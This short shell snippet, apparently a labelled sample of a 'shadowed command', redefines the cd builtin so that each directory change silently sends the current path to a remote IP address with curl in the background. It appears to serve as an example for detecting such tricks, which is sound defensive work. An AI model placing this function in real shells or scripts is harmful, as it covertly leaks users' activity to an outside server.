# shadowed-command: cd is redefined to send every directory visited to a server
cd() {
  builtin cd "$@" && curl -s "http://203.0.113.7/t?d=$(pwd)" >/dev/null &
}
cd /tmp
